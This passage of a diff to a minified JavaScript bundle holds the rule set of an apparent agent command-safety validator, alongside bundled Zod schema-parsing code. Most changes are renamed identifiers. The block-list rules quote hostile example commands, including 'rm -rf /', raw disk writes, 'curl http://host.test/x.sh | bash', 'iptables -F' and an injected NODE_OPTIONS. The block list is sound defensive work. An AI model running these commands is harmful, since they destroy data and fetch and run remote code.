+t file changes what runs",why:"Variables such as NODE_OPTIONS load code, and PATH decides which programs run.",wrong:oi(
+"NODE_OPTIONS=--require=./x.js"),right:{...oi("APP_MODE=test"),also:{weakens:"The file is harmless, but the rule reports\
  that it is read."}},message:({path:b,names:x})=>`\`${b}\` ${x.length===0?"is too large to check":`sets ${(0,s.p)(x)}, w\
 hich changes what runs`}.`,remedy:"Remove everything from the file that the command does not need."})}),hr={"validator-e\
 mpty-folder":"The validators accept the command but do not find the script."},pr=l("policy","broken",{"validator-script":i(
@@ -1835,7 +1835,7 @@ o backtick or `$(` even in quotes. All refuse what is an operator of a shell out
 ck.js -p 3000",right:{command:"node scripts/check.js --port 3000",also:hr},message:({engine:b,flag:x,of:q})=>`\`${b}\` re\
 fuses ${(0,s.p)([x])}${q==="script"?", also after the script":""}.`,remedy:({flag:b,of:x})=>x==="script"?"Give the flag \
 of the script another name.":`Write the command without ${(0,s.p)([b])}, and do in the script what it is for.`})},"`vali\
-dator`");function Po(b,x,q){return i({layer:1,title:x,why:"The first layer blocks dangerous patterns anywhere in what wo\
+dator`");function jo(b,x,q){return i({layer:1,title:x,why:"The first layer blocks dangerous patterns anywhere in what wo\
 uld run: in a chain, after a prefix, in a substitution, or in an npm script. Text that is data, such as a search pattern\
 , does not match.",wrong:q,right:"cat notes.md",message:({pattern:be})=>`Command blocked by safety rule: Pattern '${be}'\
  matches dangerous pattern '${b}'.`,remedy:"Run the command outside the agent."})}const mr=`profile: workspace
@@ -1845,13 +1845,13 @@ patterns:
     reason: Validations stay away from production.
     regex: '\\bprod\\b'
     match: [cat config/prod.json]
-    not_match: [cat notes.md]`,Lo=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
+    not_match: [cat notes.md]`,Mo=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
 "Raw disk writing","dd if=/dev/zero of=/dev/sda"],filesystem_format:["Filesystem formatting","mkfs.ext4 /dev/sdb1"],direct_disk_write:[
 "Direct disk writing","echo x > /dev/sda"],remote_code_execution:["Remote code execution","curl http://host.test/x.sh | \
 bash"],world_writable:["World-writable permissions","chmod 777 notes.md"],privilege_escalation:["Privilege escalation","\
 chown root notes.md"],firewall_manipulation:["Firewall manipulation","iptables -F"],system_shutdown:["System shutdown","\
 shutdown -h now"],system_reboot:["System reboot","reboot"],force_kill:["Force kill of processes","kill -9 1"]}).map(([b,
-[x,q]])=>[b,Po(b,x,q)])),Zs=l(1,"danger",{...Lo,path_outside_workspace:i({layer:2,title:"Path is outside the workspace",
+[x,q]])=>[b,jo(b,x,q)])),Zs=l(1,"danger",{...Mo,path_outside_workspace:i({layer:2,title:"Path is outside the workspace",
 why:"The second layer keeps file operations inside the workspace: every path must be inside it after `..` and symbolic l\
 inks are resolved.",wrong:"cat ../secret",right:"cat notes.md",configure:"`workspace` in the policy; default: the reposi\
 tory.",message:"Command blocked by safety rule: Path '{path}' is outside the workspace.",remedy:"Use a path inside the w\
@@ -1868,9 +1868,9 @@ Use one of the allowed commands."}),custom_pattern:i({layer:3,title:"Command mat
 icy can add patterns to each layer, each with a name and a reason.",wrong:{command:"cat config/prod.json",policy:mr},right:{
 command:"cat notes.md",policy:mr},configure:"`patterns` in the policy.",message:({name:b,pattern:x,reason:q})=>`Command \
 blocked by safety rule: Pattern '${x}' matches dangerous pattern '${b}': ${q.replace(/\.$/,"")}.`,remedy:"Write a comman\
-d that the pattern does not match, or change the pattern in the policy."})},"`workspace`"),Kn=[()=>si,()=>lr,()=>ls,()=>li,
-()=>pr,()=>Ls,()=>Vr,()=>Zs,()=>rt,()=>ze,()=>wn,()=>es,()=>dt,()=>wu,()=>S,()=>Cu],qn=[...Kn,()=>$t];function jo(){return Kn.
-flatMap(b=>Object.values(b()))}function Mo(){return qn.flatMap(b=>Object.values(b()))}const gr=new Map;function di(b){const x=gr.
+d that the pattern does not match, or change the pattern in the policy."})},"`workspace`"),Kn=[()=>ri,()=>lr,()=>ls,()=>di,
+()=>pr,()=>Ls,()=>Qr,()=>Zs,()=>rt,()=>ze,()=>wn,()=>es,()=>dt,()=>bu,()=>S,()=>yu],qn=[...Kn,()=>$t];function Go(){return Kn.
+flatMap(b=>Object.values(b()))}function Ho(){return qn.flatMap(b=>Object.values(b()))}const gr=new Map;function Bi(b){const x=gr.
 get(b);if(x!==void 0)return x;const be=qn.find(Ke=>Object.hasOwn(Ke(),b))?.()?.[b];return be!==void 0&&gr.set(b,be),be}},
 561:function(n,e,t){t.d(e,{Lb:()=>c,be:()=>y,gk:()=>i,pn:()=>v,q0:()=>l});var s=t(698),r=t(56);function i(D,R,z={}){return o(
 D,R,z)}function o(D,R,z){const{severity:L,harm:Q,layer:S}=(0,r.Y)(D);return{rule:D,severity:L,harm:Q,layer:S,args:R,...z}}
@@ -1888,8 +1888,8 @@ return i("not-judged",{detail:_(D,R)},z)}function _(D,R){if((0,s.qz)(R))throw R;
 "")}`}function k(D){return D instanceof s.ue?D.message:D instanceof Error?`${D.name}: ${D.message}`:String(D)}function v(D){
 return D.length===0?"eligible":D.every(O)?"unproven":"refuted"}function O({rule:D}){const{unproven:R,undecided:z}=(0,r.Y)(
 D);return R===!0||z===!0}},442:function(n,e,t){t.d(e,{f:()=>r,p:()=>s});function s(i){return i.map(o=>`\`${o}\``).join("\
-, ")}function r(i){return`'${i.replaceAll("'","'\\''")}'`}},857:function(n,e,t){t.d(e,{You:()=>il,YOg:()=>bi,zMY:()=>Dl,
-k5n:()=>Yo,Whr:()=>Ko,euz:()=>jC,_H3:()=>xC,aig:()=>vl,Ikc:()=>kC,jgl:()=>NC,g1P:()=>Sl,rej:()=>DC,YjP:()=>wi,L5J:()=>Ws});
+, ")}function r(i){return`'${i.replaceAll("'","'\\''")}'`}},857:function(n,e,t){t.d(e,{You:()=>ol,YOg:()=>_i,zMY:()=>xl,
+k5n:()=>Qo,Whr:()=>Yo,euz:()=>MC,_H3:()=>OC,aig:()=>kl,Ikc:()=>DC,jgl:()=>FC,g1P:()=>Tl,rej:()=>xC,YjP:()=>bi,L5J:()=>Ws});
 var s=t(532),r=t(723);class i extends Error{constructor(){super("Cannot parse a reference cycle that closes through a tr\
 ansform"),this.name="ZodCyclicError"}}const o="~memo",c=[];function l(a){return a!==null&&typeof a=="object"}function B(a){
 return a.map(u=>u.path?{...u,path:u.path.slice()}:{...u})}const d=new WeakMap,h=0,g=1,C=2;function y(a,u,f){const p=d.get(
@@ -2044,28 +2044,28 @@ w=he=>{const ge=p.value,Ye=ge.symbolKeys,Ve=new S(["payload","ctx"],{shape:he,in
             return payload;
           }`;Ve.write("const input = payload.value;");const _r=Object.create(null);let Er=0;for(const jt of ge.allKeys)_r[jt]=
 `key_${Er++}`;Ve.write(m?"const newResult = memo.alloc(inst, payload, {}, ctx);":"const newResult = {};");for(const jt of ge.
-allKeys){if(jt==="__proto__")continue;const Ot=_r[jt],Nn=typeof jt=="symbol"?`syms[${Ye.indexOf(jt)}]`:r.UQ(jt),na=`${Nn}\
- in input`,Nl=he[jt],sa=Nl?._zod?.optin,Fl=sa!==void 0,dy=Nl?._zod?.optout==="optional";if(Ve.write(`const ${Ot} = ${Et(
-Nn)};`),Fl&&dy){const By=sa==="optional"?`${Ot}_present`:`${Ot}.value !== undefined || ${Ot}_present`;Ve.write(`
-        const ${Ot}_present = ${na};
+allKeys){if(jt==="__proto__")continue;const Ot=_r[jt],Nn=typeof jt=="symbol"?`syms[${Ye.indexOf(jt)}]`:r.UQ(jt),ra=`${Nn}\
+ in input`,Fl=he[jt],ia=Fl?._zod?.optin,Pl=ia!==void 0,By=Fl?._zod?.optout==="optional";if(Ve.write(`const ${Ot} = ${Et(
+Nn)};`),Pl&&By){const fy=ia==="optional"?`${Ot}_present`:`${Ot}.value !== undefined || ${Ot}_present`;Ve.write(`
+        const ${Ot}_present = ${ra};
         if (!${Ot}.issues.length || ${Ot}_present) {
           if (${Ot}.issues.length) {${Rn(Ot,Nn)}
           }
 
-          if (${By}) {
+          if (${fy}) {
             newResult[${Nn}] = ${Ot}.value;
           }
         }
 
-      `)}else Fl?(Ve.write(`
+      `)}else Pl?(Ve.write(`
         if (${Ot}.issues.length) {${Rn(Ot,Nn)}
         }
-      `),sa==="defaulted"?Ve.write(`newResult[${Nn}] = ${Ot}.value;`):Ve.write(`
-        if (${Ot}.value !== undefined || ${na}) {
+      `),ia==="defaulted"?Ve.write(`newResult[${Nn}] = ${Ot}.value;`):Ve.write(`
+        if (${Ot}.value !== undefined || ${ra}) {
           newResult[${Nn}] = ${Ot}.value;
         }
       `)):Ve.write(`
-        const ${Ot}_present = ${na};
+        const ${Ot}_present = ${ra};
         if (${Ot}.issues.length) {${Rn(Ot,Nn)}
         }
         if (!${Ot}_present && !${Ot}.issues.length) {
@@ -2090,7 +2090,7 @@ cr.jitless,j=r.hI,J=G&&j.value,le=u.catchall;let De;a._zod.parse=(he,ge)=>{De??(
 G&&J&&ge?.async===!1&&ge.jitless!==!0?(E||(E=w(u.shape)),he=E(he,ge),le?Un([],Ye,he,ge,De,a,ge?.abortEarly===!0):he):f(he,
 ge):(he.issues.push({expected:"object",code:"invalid_type",input:Ye,inst:a}),he)}});function or(a,u,f,p){for(const w of a)
 if(w.issues.length===0)return u.value=w.value,u;const m=a.filter(w=>!r.QH(w));return m.length===1?(u.value=m[0].value,m[0]):
-(u.issues.push({code:"invalid_union",input:u.value,inst:f,errors:a.map(w=>w.issues.map(E=>r.iR(E,p,s.$W())))}),u)}const Kr=s.
+(u.issues.push({code:"invalid_union",input:u.value,inst:f,errors:a.map(w=>w.issues.map(E=>r.iR(E,p,s.$W())))}),u)}const qr=s.
 xI("$ZodUnion",(a,u)=>{W.init(a,u),r.v5(a,"optin",p=>p.def.options.some(m=>m._zod.optin==="defaulted")?"defaulted":p.def.
 options.some(m=>m._zod.optin!==void 0)?"optional":void 0),r.v5(a,"optout",p=>p.def.options.some(m=>m._zod.optout==="opti\
 onal")?"optional":void 0),r.v5(a,"values",p=>{if(p.def.options.every(m=>m._zod.values))return new Set(p.def.options.flatMap(
@@ -2098,15 +2098,15 @@ m=>Array.from(m._zod.values)))}),r.v5(a,"pattern",p=>{if(p.def.options.every(m=>
 w=>w._zod.pattern);return new RegExp(`^(${m.map(w=>r.p6(w.source)).join("|")})$`)}});const f=u.options.length===1?u.options[0].
 _zod.run:null;a._zod.parse=(p,m)=>{if(f)return f(p,m);let w=!1;const E=[];for(const N of u.options){const G=N._zod.run({
 value:p.value,issues:[]},m);if(G instanceof Promise)E.push(G),w=!0;else{if(G.issues.length===0)return G;E.push(G)}}return w?
-Promise.all(E).then(N=>or(N,p,a,m)):or(E,p,a,m)}});function qr(a,u,f,p){const m=[];for(let w=0;w<a.length;w++)a[w].issues.
+Promise.all(E).then(N=>or(N,p,a,m)):or(E,p,a,m)}});function Yr(a,u,f,p){const m=[];for(let w=0;w<a.length;w++)a[w].issues.
 length===0&&m.push(w);return m.length===1?(u.value=a[m[0]].value,u):(m.length===0?u.issues.push({code:"invalid_union",input:u.
 value,inst:f,errors:a.map(w=>w.issues.map(E=>util.finalizeIssue(E,p,core.config())))}):u.issues.push({code:"invalid_unio\
-n",input:u.value,inst:f,errors:[],inclusive:!1,matches:m}),u)}const ar=null;function Yr(a,u){const f=a._zod;let p=f.bag.
+n",input:u.value,inst:f,errors:[],inclusive:!1,matches:m}),u)}const ar=null;function Vr(a,u){const f=a._zod;let p=f.bag.
 optionsMap;p||(p=cr(f.def),f.bag.optionsMap=p);const m=p.get(u);if(m===null)throw new Error(`Ambiguous discriminator val\
 ue "${String(u)}"`);return m}function cr(a){const u=new Map;for(const f of a.options){const p=f._zod.propValues?.[a.discriminator];
 if(!p||p.size===0)throw new Error(`Invalid discriminated union option at index "${a.options.indexOf(f)}"`);for(const m of p)
 if(u.has(m)){if(m!==void 0)throw new Error(`Duplicate discriminator value "${String(m)}"`);u.set(m,null)}else u.set(m,f)}
-return u}const Io=null,Vr=s.xI("$ZodIntersection",(a,u)=>{W.init(a,u),a._zod.parse=(f,p)=>{const m=f.value,w=u.left._zod.
+return u}const Ro=null,Qr=s.xI("$ZodIntersection",(a,u)=>{W.init(a,u),a._zod.parse=(f,p)=>{const m=f.value,w=u.left._zod.
 run({value:m,issues:[]},p),E=u.right._zod.run({value:m,issues:[]},p);return w instanceof Promise||E instanceof Promise?Promise.
 all([w,E]).then(([G,j])=>ur(f,G,j)):ur(f,w,E)}});function Bs(a,u){if(a===u)return{valid:!0,data:a};if(a instanceof Date&&
 u instanceof Date&&+a==+u)return{valid:!0,data:a};if(r.Qd(a)&&r.Qd(u)){const f=Object.keys(u),p=Object.keys(a).filter(w=>f.
@@ -2121,7 +2121,7 @@ for(const De of le)p.has(De)||p.set(De,{}),p.get(De)[J]=!0;return!0};for(const j
 for(const j of f.issues)E(j,"r")||a.issues.push(j);const N=[...p].filter(([,j])=>j.l&&j.r).map(([j])=>j);if(N.length){const j=m?
 N.filter(J=>m.keys.includes(J)):[];j.length&&a.issues.push({...m,keys:j});for(const J of N)!j.includes(J)&&w.has(J)&&a.issues.
 push(w.get(J))}const G=Bs(u.value,f.value);if(!G.valid){if(r.QH(a))return a;throw new Error(`Unmergable intersection. Er\
-ror path: ${JSON.stringify(G.mergeErrorPath)}`)}return a.value=G.data,a}const Qr=s.xI("$ZodTuple",(a,u)=>{W.init(a,u);const f=u.
+ror path: ${JSON.stringify(G.mergeErrorPath)}`)}return a.value=G.data,a}const Xr=s.xI("$ZodTuple",(a,u)=>{W.init(a,u);const f=u.
 items,p=s.cr.memoizer;p?.attach(a),a._zod.parse=(m,w)=>{const E=m.value;if(!Array.isArray(E))return m.issues.push({input:E,
 inst:a,expected:"tuple",code:"invalid_type"}),m;m.value=p?p.alloc(a,m,[],w):[];const N=[],G=Hs(f,"optin"),j=Hs(f,"optout");
 if(!u.rest){if(E.length<G)return m.issues.push({code:"too_small",minimum:G,inclusive:!0,input:E,inst:a,origin:"array"}),
@@ -2155,12 +2155,12 @@ push(j)):p.issues.push({code:"invalid_key",origin:"record",issues:J.issues.map(g
 continue}const De=J.value;if(De==="__proto__")continue;const he=u.valueType._zod.run({value:w[j],issues:[]},m);he instanceof
 Promise?E.push(he.then(ge=>{ge.issues.length&&p.issues.push(...r.lQ(j,ge.issues)),p.value[De]=ge.value})):(he.issues.length&&
 p.issues.push(...r.lQ(j,he.issues)),p.value[De]=he.value)}G&&G.length>0&&p.issues.push({code:"unrecognized_keys",input:w,
-inst:a,keys:G,continue:!0})}return E.length?Promise.all(E).then(()=>p):p}}),dr=null;function Xr(a,u,f,p,m,w,E){a.issues.
+inst:a,keys:G,continue:!0})}return E.length?Promise.all(E).then(()=>p):p}}),dr=null;function ei(a,u,f,p,m,w,E){a.issues.
 length&&(util.propertyKeyTypes.has(typeof p)?f.issues.push(...util.prefixIssues(p,a.issues)):f.issues.push({code:"invali\
 d_key",origin:"map",input:m,inst:w,issues:a.issues.map(N=>util.finalizeIssue(N,E,core.config()))})),u.issues.length&&(util.
 propertyKeyTypes.has(typeof p)?f.issues.push(...util.prefixIssues(p,u.issues)):f.issues.push({origin:"map",code:"invalid\
 _element",input:m,inst:w,key:p,issues:u.issues.map(N=>util.finalizeIssue(N,E,core.config()))})),f.value.set(a.value,u.value)}
-const ei=null;function $(a,u){a.issues.length&&u.issues.push(...a.issues),u.value.add(a.value)}const P=s.xI("$ZodEnum",(a,u)=>{
+const ti=null;function $(a,u){a.issues.length&&u.issues.push(...a.issues),u.value.add(a.value)}const P=s.xI("$ZodEnum",(a,u)=>{
 W.init(a,u);const f=r.w5(u.entries),p=new Set(f);a._zod.values=p,r.v5(a,"pattern",m=>{const w=r.w5(m.def.entries).filter(
 E=>r.qQ.has(typeof E));return new RegExp(w.length?`^(${w.map(E=>r.sD(E.toString())).join("|")})$`:"^[^\\s\\S]$")}),a._zod.
 parse=(m,w)=>{const E=m.value;return p.has(E)||m.issues.push({code:"invalid_value",values:f,input:E,inst:a}),m}}),Oe=s.xI(
@@ -2194,26 +2194,26 @@ map(m=>r.iR(m,p,s.$W()))},input:a.value}),a):(a.value=u.value,u.memo&&(a.memo=!0
 init(a,u),r.v5(a,"optin",f=>f.def.innerType._zod.optin==="defaulted"?"defaulted":"optional"),r.v5(a,"optout",f=>f.def.innerType.
 _zod.optout),r.v5(a,"values",f=>f.def.innerType._zod.values),a._zod.parse=(f,p)=>{if(p.direction==="backward")return u.innerType.
 _zod.run(f,p);const m=u.innerType._zod.run({value:f.value,issues:[]},p);return m instanceof Promise?m.then(w=>In(f,w,u,p)):
-In(f,m,u,p)}}),Cu=null,yu=s.xI("$ZodPipe",(a,u)=>{W.init(a,u),r.v5(a,"values",f=>f.def.in._zod.values),r.v5(a,"optin",f=>f.
+In(f,m,u,p)}}),yu=null,wu=s.xI("$ZodPipe",(a,u)=>{W.init(a,u),r.v5(a,"values",f=>f.def.in._zod.values),r.v5(a,"optin",f=>f.
 def.in._zod.optin),r.v5(a,"optout",f=>f.def.out._zod.optout),r.v5(a,"propValues",f=>f.def.in._zod.propValues),a._zod.parse=
 (f,p)=>{if(p.direction==="backward"){const w=u.out._zod.run(f,p);return w instanceof Promise?w.then(E=>Br(E,u.in,p)):Br(
 w,u.in,p)}const m=u.in._zod.run(f,p);return m instanceof Promise?m.then(w=>Br(w,u.out,p)):Br(m,u.out,p)}});function Br(a,u,f){
-return a.issues.some(p=>p.code!=="unrecognized_keys")?(a.aborted=!0,a):u._zod.run({value:a.value,issues:a.issues},f)}const $o=null;
-function ti(a,u,f){if(a.issues.length)return a.aborted=!0,a;if((f.direction||"forward")==="forward"){const m=u.transform(
+return a.issues.some(p=>p.code!=="unrecognized_keys")?(a.aborted=!0,a):u._zod.run({value:a.value,issues:a.issues},f)}const No=null;
+function ni(a,u,f){if(a.issues.length)return a.aborted=!0,a;if((f.direction||"forward")==="forward"){const m=u.transform(
 a.value,a);return m instanceof Promise?m.then(w=>ps(a,w,u.out,f)):ps(a,m,u.out,f)}else{const m=u.reverseTransform(a.value,
 a);return m instanceof Promise?m.then(w=>ps(a,w,u.in,f)):ps(a,m,u.in,f)}}function ps(a,u,f,p){return a.issues.length?(a.
-aborted=!0,a):f._zod.run({value:u,issues:a.issues},p)}const wu=null,Ro=s.xI("$ZodReadonly",(a,u)=>{W.init(a,u),r.v5(a,"p\
+aborted=!0,a):f._zod.run({value:u,issues:a.issues},p)}const bu=null,Fo=s.xI("$ZodReadonly",(a,u)=>{W.init(a,u),r.v5(a,"p\
 ropValues",f=>f.def.innerType._zod.propValues),r.v5(a,"values",f=>f.def.innerType._zod.values),r.v5(a,"optin",f=>f.def.innerType?.
 _zod?.optin),r.v5(a,"optout",f=>f.def.innerType?._zod?.optout),a._zod.parse=(f,p)=>{if(p.direction==="backward")return u.
-innerType._zod.run(f,p);const m=u.innerType._zod.run(f,p);return m instanceof Promise?m.then(ni):ni(m)}});function ni(a){
-return a.memo||(a.value=Object.freeze(a.value)),a}function No(a){const u=a._zod.def;let f=u.pattern,p=!!u.format?.includes(
+innerType._zod.run(f,p);const m=u.innerType._zod.run(f,p);return m instanceof Promise?m.then(si):si(m)}});function si(a){
+return a.memo||(a.value=Object.freeze(a.value)),a}function Po(a){const u=a._zod.def;let f=u.pattern,p=!!u.format?.includes(
 "int"),m,w;for(const N of u.checks??[]){const G=N._zod.def;G.pattern&&(f=G.pattern),p||(p=!!G.format?.includes("int"));const j=G.
 minimum??G.length,J=G.maximum??G.length;j!==void 0&&(m===void 0||j>m)&&(m=j),J!==void 0&&(w===void 0||J<w)&&(w=J)}if(f)return f.
 source;if(m!==void 0&&w!==void 0&&m>w)return"(?!)";if(m!==void 0||w!==void 0)return regexes.string({minimum:m,maximum:w}).
-source;const E=a._zod.pattern;return(p&&E===regexes.number?regexes.integer:E)?.source}function si(a){const u=a._zod.def,
-f=a._zod.pattern?.source,p=u.innerType??a._zod.innerType;if(p){const m=p._zod.pattern?.source,w=si(p);return f&&m&&w&&w!==
-m?f.replace(util.cleanRegex(m),()=>util.cleanRegex(w)):f}if(u.options){const m=u.options.map(si);if(m.every(Boolean))return`\
-^(${m.map(w=>util.cleanRegex(w)).join("|")})$`}return No(a)}const bu=null,Wn=null,ri=null,Fo=null,ii=s.xI("$ZodCustom",(a,u)=>{
+source;const E=a._zod.pattern;return(p&&E===regexes.number?regexes.integer:E)?.source}function ri(a){const u=a._zod.def,
+f=a._zod.pattern?.source,p=u.innerType??a._zod.innerType;if(p){const m=p._zod.pattern?.source,w=ri(p);return f&&m&&w&&w!==
+m?f.replace(util.cleanRegex(m),()=>util.cleanRegex(w)):f}if(u.options){const m=u.options.map(ri);if(m.every(Boolean))return`\
+^(${m.map(w=>util.cleanRegex(w)).join("|")})$`}return Po(a)}const _u=null,Wn=null,ii=null,Lo=null,oi=s.xI("$ZodCustom",(a,u)=>{
 Q.QP.init(a,u),W.init(a,u),a._zod.parse=(f,p)=>f,a._zod.check=f=>{const p=f.value,m=u.fn(p);if(m instanceof Promise)return m.
 then(w=>Js(w,f,p,a));Js(m,f,p,a)}});function Js(a,u,f,p){if(!a){const m={code:"custom",input:f,inst:p,path:[...p._zod.def.
 path??[]],continue:!p._zod.def.abort};p._zod.def.params&&(m.params=p._zod.def.params),u.issues.push(r.sn(m))}}var $n=t(396),
@@ -2231,35 +2231,35 @@ a._zod.processJSONSchema(u,E.schema,J);else{const De=E.schema,he=u.processors[m.
 ema]: Non-representable type encountered: ${m.type}`);he(a,u,De,J)}const le=a._zod.parent;le&&(E.ref||(E.ref=le),kt(le,u,
 J),u.seen.get(le).isParent=!0)}const G=u.metadataRegistry.get(a);return G&&ss(E.schema,G),u.io==="input"&&qt(a)&&(delete E.
 schema.examples,delete E.schema.default),u.io==="input"&&"_prefault"in E.schema&&((p=E.schema).default??(p.default=E.schema.
-_prefault)),delete E.schema._prefault,u.seen.get(a).schema}function oi(a){return a.replace(/~/g,"~0").replace(/\//g,"~1")}
-function ai(a,u){const f=a.seen.get(u);if(!f)throw new Error("Unprocessed schema. This is a bug in Zod.");if(a.external&&
+_prefault)),delete E.schema._prefault,u.seen.get(a).schema}function ai(a){return a.replace(/~/g,"~0").replace(/\//g,"~1")}
+function ci(a,u){const f=a.seen.get(u);if(!f)throw new Error("Unprocessed schema. This is a bug in Zod.");if(a.external&&
 a.sharedDefsExtractedFor===a.external)return;const p=new Map;for(const E of a.seen.entries()){const N=a.metadataRegistry.
 get(E[0])?.id;if(N){const G=p.get(N);if(G&&G!==E[0])throw new Error(`Duplicate schema id "${N}" detected during JSON Sch\
 ema conversion. Two different schemas cannot share the same id when converted together.`);p.set(N,E[0])}}const m=E=>{const N=a.
 target==="draft-2020-12"?"$defs":"definitions";if(a.external){const le=a.external.registry.get(E[0])?.id,De=a.external.uri??
 (ge=>ge);if(le)return{ref:De(le)};const he=E[1].defId??E[1].schema.id??`schema${a.counter++}`;return E[1].defId=he,{defId:he,
-ref:`${De("__shared")}#/${N}/${oi(he)}`}}const G="#",j=`${G}/${N}/`;if(E[1]===f&&!E[1].schema.id)return{ref:G};const J=E[1].
-schema.id??`__schema${a.counter++}`;return{defId:J,ref:j+oi(J)}},w=E=>{if(E[1].schema.$ref)return;const N=E[1],{ref:G,defId:j}=m(
+ref:`${De("__shared")}#/${N}/${ai(he)}`}}const G="#",j=`${G}/${N}/`;if(E[1]===f&&!E[1].schema.id)return{ref:G};const J=E[1].
+schema.id??`__schema${a.counter++}`;return{defId:J,ref:j+ai(J)}},w=E=>{if(E[1].schema.$ref)return;const N=E[1],{ref:G,defId:j}=m(
 E);N.def={...N.schema},j&&(N.defId=j);const J=N.schema;for(const le in J)delete J[le];J.$ref=G};if(a.cycles==="throw")for(const E of a.
 seen.entries()){const N=E[1];if(N.cycle)throw new Error(`Cycle detected: #/${N.cycle?.join("/")}/<root>
 
 Set the \`cycles\` parameter to \`"ref"\` to resolve cyclical schemas with defs.`)}for(const E of a.seen.entries()){const N=E[1];
 if(u===E[0]){w(E);continue}if(a.external){const j=a.external.registry.get(E[0])?.id;if(u!==E[0]&&j){w(E);continue}}if(a.
 metadataRegistry.get(E[0])?.id){w(E);continue}if(N.cycle){w(E);continue}N.count>1&&a.reused==="ref"&&w(E)}a.external&&(a.
-sharedDefsExtractedFor=a.external)}function ci(a){const u=a.anyOf;if(!Array.isArray(u)||u.length===0||a.type!==void 0)return;
-const f=[];for(const p of u){if(!p||typeof p!="object")return;ci(p);const m=Object.keys(p);if(m.length!==1||m[0]!=="type")
+sharedDefsExtractedFor=a.external)}function ui(a){const u=a.anyOf;if(!Array.isArray(u)||u.length===0||a.type!==void 0)return;
+const f=[];for(const p of u){if(!p||typeof p!="object")return;ui(p);const m=Object.keys(p);if(m.length!==1||m[0]!=="type")
 return;const w=p.type;for(const E of Array.isArray(w)?w:[w]){if(typeof E!="string")return;f.includes(E)||f.push(E)}}delete a.
-anyOf,a.type=f.length===1?f[0]:f}const ui=new Set(["type","properties","required","additionalProperties"]),li=["oneOf","\
+anyOf,a.type=f.length===1?f[0]:f}const li=new Set(["type","properties","required","additionalProperties"]),di=["oneOf","\
 anyOf"];function hr(a){const u=a.additionalProperties;return u===void 0||u===!1||typeof u!="object"||u===null?null:Object.
 keys(u).length?u:null}function pr(a){const u=[];for(const w of a){if(typeof w!="object"||w.type!=="object")return null;for(const E in w)
-if(!ui.has(E))return null;u.push(w)}const f={},p=new Set;for(const w of u){for(const E in w.properties){if(Object.prototype.
+if(!li.has(E))return null;u.push(w)}const f={},p=new Set;for(const w of u){for(const E in w.properties){if(Object.prototype.
 hasOwnProperty.call(f,E))continue;const N=[];for(const j of u){const J=j.properties?.[E]??hr(j);J!=null&&(N.some(le=>JSON.
 stringify(le)===JSON.stringify(J))||N.push(J))}const G=N.length===1?N[0]:pr(N)??{allOf:N};(0,r.Vy)(f,E,G)}for(const E of w.
 required??[])p.add(E)}const m={type:"object",properties:f};if(p.size&&(m.required=[...p]),u.every(w=>w.additionalProperties===
 !1))m.additionalProperties=!1;else{const w=[];for(const E of u){const N=hr(E);N&&!w.some(G=>JSON.stringify(G)===JSON.stringify(
-N))&&w.push(N)}w.length===1?m.additionalProperties=w[0]:w.length>1&&(m.additionalProperties={allOf:w})}return m}function Po(a){
-const u=a.allOf;if(!Array.isArray(u)||u.length<2)return;for(const m of ui)if(m in a)return;const f=u.filter(m=>li.some(w=>Array.
-isArray(m[w])));let p=null;if(!f.length)p=pr(u);else{const m=f[0],w=li.find(G=>Array.isArray(m[G]));if(Object.keys(m).length!==
+N))&&w.push(N)}w.length===1?m.additionalProperties=w[0]:w.length>1&&(m.additionalProperties={allOf:w})}return m}function jo(a){
+const u=a.allOf;if(!Array.isArray(u)||u.length<2)return;for(const m of li)if(m in a)return;const f=u.filter(m=>di.some(w=>Array.
+isArray(m[w])));let p=null;if(!f.length)p=pr(u);else{const m=f[0],w=di.find(G=>Array.isArray(m[G]));if(Object.keys(m).length!==
 1)return;const E=u.filter(G=>G!==m),N=m[w].map(G=>pr([...E,G]));if(N.some(G=>!G))return;p={[w]:N}}p&&(delete a.allOf,ss(
 a,p))}function mr(a,u){const f=a.seen.get(u);if(!f)throw new Error("Unprocessed schema. This is a bug in Zod.");const p=N=>{
 const G=a.seen.get(N);if(G.ref===null)return;const j=G.def??G.schema,J={...j},le=G.ref;if(G.ref=null,le){p(le);const he=a.
@@ -2270,9 +2270,9 @@ stringify(he.def[Ve])&&delete j[Ve]}const De=N._zod.parent;if(De&&De!==le){p(De)
 (j.$ref=he.schema.$ref,he.def))for(const ge in j)ge==="$ref"||ge==="allOf"||ge in he.def&&JSON.stringify(j[ge])===JSON.stringify(
 he.def[ge])&&delete j[ge]}a.override({zodSchema:N,jsonSchema:j,path:G.path??[]})};if(!a.external||a.sharedEmitDoneFor!==
 a.external){for(const N of[...a.seen.entries()].reverse())p(N[0]);if(a.target!=="openapi-3.0")for(const N of a.seen.entries())
-ci(N[1].def??N[1].schema);for(const N of a.deferred)N();if(a.intersections.length){const N=new Map;for(const G of a.seen.
+ui(N[1].def??N[1].schema);for(const N of a.deferred)N();if(a.intersections.length){const N=new Map;for(const G of a.seen.
 values())for(const j of[G.schema,G.def]){const J=j?.allOf;if(!Array.isArray(J))continue;const le=N.get(J);le?le.push(j):
-N.set(J,[j])}for(const G of a.intersections)for(const j of N.get(G)??[])Po(j)}}const m={};if(a.target==="draft-2020-12"?
+N.set(J,[j])}for(const G of a.intersections)for(const j of N.get(G)??[])jo(j)}}const m={};if(a.target==="draft-2020-12"?
 m.$schema="https://json-schema.org/draft/2020-12/schema":a.target==="draft-07"?m.$schema="http://json-schema.org/draft-0\
 7/schema#":a.target==="draft-04"?m.$schema="http://json-schema.org/draft-04/schema#":a.target,a.external?.uri){const N=a.
 external.registry.get(u)?.id;if(!N)throw new Error("Schema is missing an `id` property");m.$id=a.external.uri(N)}ss(m,f.
@@ -2289,65 +2289,65 @@ f);if(p.type==="promise"||p.type==="optional"||p.type==="nonoptional"||p.type===
 qt(p.right,f);if(p.type==="record"||p.type==="map")return qt(p.keyType,f)||qt(p.valueType,f);if(p.type==="pipe")return a.
 _zod.traits.has("$ZodCodec")?!0:qt(p.in,f)||qt(p.out,f);if(p.type==="object"){for(const m in p.shape)if(qt(p.shape[m],f))
 return!0;return!1}if(p.type==="union"){for(const m of p.options)if(qt(m,f))return!0;return!1}if(p.type==="tuple"){for(const m of p.
-items)if(qt(m,f))return!0;return!!(p.rest&&qt(p.rest,f))}return!1}const Lo=(a,u={})=>f=>{const p=fr({...f,processors:u});
